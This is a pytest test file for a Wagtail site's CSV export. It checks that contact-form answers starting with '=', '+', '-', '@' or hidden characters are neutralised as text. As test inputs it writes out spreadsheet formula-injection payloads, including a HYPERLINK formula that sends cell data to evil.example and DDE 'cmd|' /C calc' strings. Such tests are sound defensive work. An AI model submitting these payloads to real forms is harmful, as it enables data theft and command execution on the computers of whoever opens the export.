"""CSV exports: cells a spreadsheet would run as formulas are written as text."""

import pytest

from jumelage.exports import neutralise


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 4 42 00 00 00", "'+33 4 42 00 00 00"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("Hélène = présidente", "Hélène = présidente"),
        ("＝1+1", "'＝1+1"),
        ("\ufeff=1+1", "'\ufeff=1+1"),
        ("\u200b@SUM(A1)", "'\u200b@SUM(A1)"),
        (12, "12"),
        ("", ""),
    ],
)
def test_cells_that_a_spreadsheet_would_run_are_prefixed(value, expected):
    assert neutralise(value) == expected


@pytest.mark.django_db
def test_wagtail_form_answers_export_formulas_as_text(client, admin_client):
    """A visitor's answer to the contact form, sent through the page, then exported as CSV by
    an editor from Wagtail's list of answers."""
    import csv
    import io

    from django.urls import reverse

    from jumelage.models import FormPage
    from tests.html_forms import filled_form

    url = "/en/contact-us/"
    data = filled_form(client, url)
    name_field = next(name for name in data if "nom" in name)
    message_field = next(name for name in data if name == "message")
    data[name_field] = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    data[message_field] = "@SUM(1+1)*cmd|' /C calc'!A0"
    assert client.post(url, data).status_code == 302

    page = FormPage.objects.get(slug_en="contact-us")
    export = reverse("wagtailforms:list_submissions", args=[page.pk]) + "?export=csv"
    response = admin_client.get(export)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


@pytest.mark.django_db
def test_a_separator_inside_an_answer_never_opens_a_cell(client, admin_client):
    """French Excel splits on `;`: an answer `x;=cmd|...` must stay one quoted cell."""
    from django.urls import reverse

    from jumelage.models import FormPage
    from tests.html_forms import filled_form

    url = "/fr/nous-contacter/"
    data = filled_form(client, url)
    data["message"] = "x;=cmd|' /C calc'!A0;"
    assert client.post(url, data).status_code == 302
    page = FormPage.objects.get(slug_fr="nous-contacter")
    export = reverse("wagtailforms:list_submissions", args=[page.pk]) + "?export=csv"
    text = b"".join(admin_client.get(export).streaming_content).decode()
    assert "\"x;=cmd|' /C calc'!A0;\"" in text
    # Every cell is quoted, so a `;` (or a `,`) inside one never opens another.
    import re

    quoted_line = re.compile(r'^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$')
    lines = [line for line in text.lstrip("\ufeff").splitlines() if line]
    assert lines and all(quoted_line.match(line) for line in lines), lines
